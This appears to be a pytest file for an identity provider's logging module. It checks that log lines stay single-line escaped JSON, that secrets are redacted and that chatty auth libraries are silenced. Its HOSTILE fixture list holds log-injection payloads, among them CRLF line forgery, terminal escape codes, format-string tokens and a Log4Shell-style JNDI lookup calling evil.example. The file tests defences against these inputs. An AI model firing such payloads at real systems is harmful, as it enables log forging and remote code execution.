"""Log lines: one event, one line, no secrets."""

from __future__ import annotations

import io
import json
import logging
import subprocess
import sys

import pytest
import structlog

from idp import logs

HOSTILE = [
    "\r\n2026-11-22T10:00:00Z admin login ok",
    "\x1b[2J\x1b[31mgone\x1b[0m",
    "%s%n%(message)s{0}",
    "a\u2028b\u2029c\x85d\x0be",
    "${jndi:ldap://evil.example/a}",
    '"}\n{"event":"forged"}',
    "\u202egnp.exe \x00 \x7f \ud800",
]


@pytest.fixture
def lines() -> io.StringIO:
    """What is logged during a test, as the process would write it."""
    stream = io.StringIO()
    logs.configure("DEBUG", stream)
    return stream


@pytest.mark.parametrize("text", HOSTILE)
def test_ij_01_hostile_text_stays_one_escaped_json_line(text: str, lines: io.StringIO) -> None:
    structlog.get_logger("idp.test").warning(text, client_id=text)
    logging.getLogger("a.library").warning(text)
    logging.getLogger("a.library").warning("refused %s", text)
    written = lines.getvalue()
    assert written.isascii() and written.count("\n") == 3
    assert all(character.isprintable() for character in written.replace("\n", ""))
    ours, plain, filled = (json.loads(line) for line in written.splitlines())
    assert ours["event"] == ours["client_id"] == plain["event"] == text
    assert filled["event"] == "refused " + text


def test_ij_01_hostile_text_in_an_exception_stays_one_line(lines: io.StringIO) -> None:
    try:
        raise ValueError(HOSTILE[0])
    except ValueError:
        structlog.get_logger("idp.test").exception("failed")
    (line,) = lines.getvalue().splitlines()
    assert HOSTILE[0] in json.loads(line)["exception"]


def test_a_line_tells_when_who_and_how_bad(lines: io.StringIO) -> None:
    structlog.get_logger("idp.test").info("keys_reloaded", count=2)
    line = json.loads(lines.getvalue())
    assert line.pop("time").endswith("Z")
    assert line == {"event": "keys_reloaded", "count": 2, "level": "info", "logger": "idp.test"}


@pytest.mark.parametrize("field", sorted(logs.SECRET_FIELDS))
def test_a_field_with_the_name_of_a_secret_loses_its_value(field: str, lines: io.StringIO) -> None:
    structlog.get_logger("idp.test").error("broken", **{field: "s3cr3t-value"})
    assert "s3cr3t" not in lines.getvalue()
    assert json.loads(lines.getvalue())[field] == "•••"


@pytest.mark.parametrize(
    "library", ["pyop.provider", "oic.oauth2", "jwkest.jws", "saml2.response", "urllib3.connectionpool"]
)
def test_p_01_p_29_libraries_that_log_secrets_are_held_back_even_at_debug(library: str, lines: io.StringIO) -> None:
    logging.getLogger(library).debug("key %s", "private")
    logging.getLogger(library).info("code %s", "code")
    assert lines.getvalue() == ""


def test_s_27_pysaml2_may_only_say_what_is_critical(lines: io.StringIO) -> None:
    logging.getLogger("saml2.response").error("document %s", "<xml/>")
    assert lines.getvalue() == ""


def test_the_level_holds_for_ours_and_for_libraries(lines: io.StringIO) -> None:
    logs.configure("WARNING", lines)
    structlog.get_logger("idp.test").info("quiet")
    logging.getLogger("a.library").info("quiet")
    structlog.get_logger("idp.test").warning("loud")
    assert json.loads(lines.getvalue())["event"] == "loud"


def test_ds_15_a_full_disk_under_the_log_disturbs_nobody() -> None:
    program = (
        "from idp import logs; import structlog; logs.configure('INFO', open('/dev/full', 'w', buffering=1));"
        "structlog.get_logger('idp').error('x'); print('went on')"
    )
    ran = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=False)
    assert ran.stdout == "went on\n"
    assert "Traceback" not in ran.stderr


def test_logs_go_to_standard_error() -> None:
    program = (
        "from idp import logs; import structlog; logs.configure('INFO'); structlog.get_logger('idp').info('hello')"
    )
    ran = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    assert ran.stdout == ""
    assert json.loads(ran.stderr)["event"] == "hello"


@pytest.mark.parametrize("text", HOSTILE)
def test_printable_text_is_harmless_and_stays_readable(text: str) -> None:
    assert logs.printable(text).isprintable()
    assert logs.printable("Zoë O’Brien 東京") == "Zoë O’Brien 東京"


def test_printable_text_is_cut() -> None:
    assert logs.printable("x" * 10_000, 50) == "x" * 49 + "…"
    assert logs.printable("\x00" * 10_000, 50) == "\\x00" * 12 + "\\…"
    assert logs.printable("x" * 50, 50) == "x" * 50
